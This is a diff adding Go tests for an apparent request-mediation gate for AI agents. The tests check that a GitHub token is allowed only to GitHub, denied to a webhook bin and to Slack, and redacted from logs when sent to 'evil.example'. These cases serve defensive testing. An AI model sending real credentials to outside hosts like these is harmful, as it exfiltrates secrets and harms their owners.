@@ -534,3 +534,51 @@ func TestReceiptsHashSensitiveParameters(t *testing.T) {
 		t.Errorf("receipt _token parameter: got %q, want its SHA-256", v)
 	}
 }
+
+func TestCredentialHeadersScannedUnlessOwn(t *testing.T) {
+	t.Parallel()
+	p, err := rules.ParsePolicy("default.yaml", rules.DefaultPolicy)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tg := newTestGate(t, Options{Policy: staticPolicy{p}})
+	id := tg.identity(t, "bot")
+	// A classic token with a valid checksum (inspect's test helper made it).
+	const gh = "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"
+	cases := []struct {
+		name, method, url, header string
+		want                      aarm.Verdict
+	}{
+		{"own GitHub token to GitHub", "GET", "https://api.github.com/user", "token " + gh, aarm.Allow},
+		{"GitHub token to a webhook bin", "POST", "https://webhook.site/abc-123", "Bearer " + gh, aarm.Deny},
+		{"GitHub token to Slack", "POST", "https://slack.com/api/chat.postMessage", "Bearer " + gh, aarm.Deny},
+	}
+	for _, tc := range cases {
+		req := request(id, tc.method, tc.url, `{"text":"hi","channel":"C1"}`)
+		if tc.method == "GET" {
+			req = request(id, tc.method, tc.url, "")
+		}
+		req.Header.Set("Authorization", tc.header)
+		res := tg.Mediate(t.Context(), req)
+		if res.Decision.Verdict != tc.want {
+			t.Errorf("%s: got %v %q (%s/%s), want %v", tc.name, res.Decision.Verdict, res.Decision.Reason, res.Action.Tool, res.Action.Operation, tc.want)
+		}
+	}
+}
+
+func TestReceiptsRedactSecretsInPathsAndLists(t *testing.T) {
+	t.Parallel()
+	tg := newTestGate(t, Options{})
+	id := tg.identity(t, "bot")
+	const gh = "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"
+	tg.Mediate(t.Context(), request(id, "GET", "https://evil.example/u/"+gh, ""))
+	req := request(id, "POST", "https://slack.com/api/chat.postMessage", "channel=C1&text=hello&text="+gh)
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	tg.Mediate(t.Context(), req)
+	for _, r := range tg.led.all() {
+		b, _ := json.Marshal(r)
+		if strings.Contains(string(b), gh) {
+			t.Errorf("receipt %s %s carries the token: %s", r.Kind, r.Action.Path, b)
+		}
+	}
+}
